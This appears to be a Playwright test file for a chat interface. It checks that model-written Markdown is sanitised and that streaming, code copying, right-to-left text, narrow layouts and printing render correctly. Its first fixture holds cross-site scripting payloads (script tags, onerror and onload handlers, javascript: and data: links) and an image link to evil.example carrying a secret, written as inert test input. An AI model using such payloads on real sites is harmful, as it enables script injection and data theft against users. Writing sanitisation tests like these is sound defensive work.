"""What a model writes is shown as Markdown, and nothing in it is ever run or fetched."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator, Iterator

import pytest
import pytest_asyncio
from playwright.async_api import Browser, Request, expect

from tests.browser.axe import findings
from tests.browser.chat import (
    BRIEF,
    OVERFLOWS,
    PATIENCE,
    Chat,
    Look,
    chromium,
    leads,
    open_chat,
    open_context,
)
from tests.conftest import StartSidecar
from tests.support.openai_server import OpenAIServer, Script
from tests.support.sidecar import Sidecar

LOOKS: tuple[Look, ...] = ("light", "dark", "narrow", "dark-narrow")

REPLY = """\
Some **bold** words and a [good link](https://example.com/fine).

<script>window.hacked = "script"</script>
<img src="x" onerror="window.hacked = 'image'">
<iframe srcdoc="<script>parent.hacked = 'frame'</script>"></iframe>
<svg onload="window.hacked = 'svg'"></svg>

[one](javascript:window.hacked='link') [two](JaVaScRiPt:window.hacked='case')
[three](data:text/html,<script>window.hacked='data'</script>) [four](vbscript:x)
<a href="javascript:window.hacked='html'">five</a> <javascript:window.hacked='auto'>

![a picture](https://evil.example/pixel.png?secret=1)

```html
<script>window.hacked = "code"</script>
```

- <b onclick="window.hacked = 'item'">an item</b>
"""


RICH = """\
# Opening a tea shop

You asked for a **plan**:
- a place by the river, with `42` seats
- [x] done already
- [ ] still to do

## Numbers of the first weeks, as far as they are known

| Week | Guests | Takings | Weather | What was sold most of all | Who was there on the day |
|:-----|-------:|--------:|---------|---------------------------|--------------------------|
| 1 | 120 | 1,440 | rain | Assam, first flush | Ines, Rui and their mother |
| 2 | 180 | 2,160 | ~~snow~~ sun | Sencha | Ines |

The rest is in the source[^1].

مرحبا بالعالم، هذا نص.

```python
def brew(leaves: int, minutes: float = 3.5) -> str:
    \"\"\"How strong.\"\"\"
    return f"{leaves} leaves for {minutes} minutes, then a line far too long for a phone"
```

### Next
1. Rent the room
2. Buy a kettle

> Tea is an act complete in its simplicity.

[^1]: The till's own count.
"""


@pytest.fixture
def model() -> Iterator[OpenAIServer]:
    with OpenAIServer() as model:
        yield model


def writing(text: str, delay: float = 0.0) -> Script:
    return Script(tokens=tuple(re.findall(r".{1,7}", text, re.DOTALL)), delay=delay)


@pytest.fixture
def writer(start_sidecar: StartSidecar, origins: str, model: OpenAIServer) -> Sidecar:
    """A sidecar whose model writes what a test likes."""
    return start_sidecar(
        SIDECAR_CREW="tests.browser.crews:hosted",
        CREW_MODEL="",
        OPENAI_API_KEY="sk-test-0123456789",
        OPENAI_BASE_URL=model.base_url,
        SIDECAR_ORIGINS=origins,
    )


@pytest_asyncio.fixture(loop_scope="session")
async def browser(writer: Sidecar) -> AsyncIterator[Browser]:
    async with chromium(leads(writer.url)) as browser:
        yield browser


async def test_no_html_script_or_link_of_a_reply_does_anything(
    browser: Browser, page_url: str, model: OpenAIServer
) -> None:
    model.script = writing(REPLY)
    chat = await open_chat(browser, page_url)
    fetched: list[str] = []

    def on_request(request: Request) -> None:
        fetched.append(request.url)

    chat.page.on("request", on_request)
    await chat.send(BRIEF)
    await expect(chat.answer).to_be_visible(timeout=2 * PATIENCE)
    messages = chat.page.locator(".messages")
    await expect(chat.answer.locator("strong")).to_have_text("bold")
    await expect(chat.answer.locator("pre code")).to_contain_text("<script>window.hacked")
    await expect(chat.answer.get_by_text("a picture")).to_be_visible()
    for element in ("script", "img", "iframe", "b", "[onclick]", "[onload]", "[onerror]"):
        await expect(messages.locator(element)).to_have_count(0)
    links = chat.answer.locator("a")
    picture = "https://evil.example/pixel.png?secret=1"
    for link in await links.all():
        # A link that was taken away leads to this page itself; a picture is fetched on a click.
        if await link.get_attribute("href") not in ("", None, "https://example.com/fine", picture):
            pytest.fail(await link.evaluate("element => element.outerHTML"))
    await expect(links.first).to_have_attribute("rel", "noreferrer")
    assert await chat.page.evaluate("window.hacked") is None
    assert not [url for url in fetched if "evil.example" in url]
    assert chat.complaints == []


SEEN = """
  window.seen = new Set();
  new MutationObserver(() => {
    for (const part of document.querySelectorAll(".prose :is([data-level], th, hr, li)"))
      seen.add(`${part.tagName} ${part.textContent.trim()}`);
    for (const words of document.querySelectorAll("[data-testid=writing]"))
      if (/[|#`\\[]|\\*\\*/.test(words.textContent)) seen.add(`MARKS ${words.textContent}`);
  }).observe(document.body, { subtree: true, childList: true, characterData: true });
"""
"""Keeps all that ever stood as a heading, a table's head, a rule or an item, and marks as words."""


async def test_what_a_model_writes_in_markdown_is_read_as_it_streams_and_at_every_width(
    browser: Browser, built_url: str, model: OpenAIServer
) -> None:
    model.script = writing(RICH, 0.015)
    context = await open_context(browser)
    await context.grant_permissions(["clipboard-read", "clipboard-write"])
    chat = Chat(await context.new_page())
    page = chat.page
    await chat.open(built_url)
    await page.evaluate(SEEN)
    await chat.send(BRIEF)
    await expect(chat.answer).to_be_visible(timeout=2 * PATIENCE)
    answer = chat.answer

    whole = await answer.evaluate(
        """answer => [...answer.querySelectorAll("[data-level], th, hr, li")]
          .map((part) => `${part.tagName} ${part.textContent.trim()}`)"""
    )
    for part in await page.evaluate("[...seen]"):
        kind, _, text = part.partition(" ")
        # Each grew into what it is.
        assert any(one.startswith(kind) and text.rstrip("↩") in one for one in whole), part
    await expect(answer.get_by_role("heading", level=3)).to_have_text("Opening a tea shop")
    await expect(answer.locator("code.hljs .hljs-keyword").first).to_have_text("def")
    await answer.get_by_role("button", name="Copy python").click()
    await expect(answer.get_by_role("button", name="Copied")).to_be_visible()
    copied = await page.evaluate("navigator.clipboard.readText()")
    assert copied.startswith("def brew(")
    assert copied.endswith('phone"')
    arabic = answer.get_by_text("مرحبا")
    assert await arabic.evaluate("p => getComputedStyle(p).direction") == "rtl"
    for look in LOOKS:
        await chat.wear(look)
        assert not await page.evaluate(OVERFLOWS)
        table = answer.locator(".table")
        if look.endswith("narrow"):
            await expect(table).to_have_attribute("aria-label", "Table")
            await table.focus()
            await expect(table).to_be_focused()
            await expect(answer.locator("pre")).to_have_attribute("tabindex", "0")
        assert await findings(page) == []
        await answer.get_by_role("heading", level=3).scroll_into_view_if_needed()
        await chat.screenshot("markdown")
        await answer.locator(".code").scroll_into_view_if_needed()
        await chat.screenshot("markdown-code")
    await chat.wear("light")

    # On paper: every word of it, and none of what can be pressed.
    await chat.unfold()
    await page.emulate_media(media="print", color_scheme="dark")
    for name in (".foot", ".bar", ".copy", ".side"):
        for each in await page.locator(name).all():
            await expect(each).to_be_hidden()
    paper = "getComputedStyle(document.querySelector('.answer')).color"
    assert await page.evaluate(paper) == "rgb(0, 0, 0)"
    assert await page.evaluate(
        "document.documentElement.scrollHeight >= document.querySelector('.messages').scrollHeight"
    )
    sheets = (await page.pdf(format="A6")).count(b"/Type /Page\n")
    print(sheets)
    assert sheets > 3
    assert chat.complaints == []
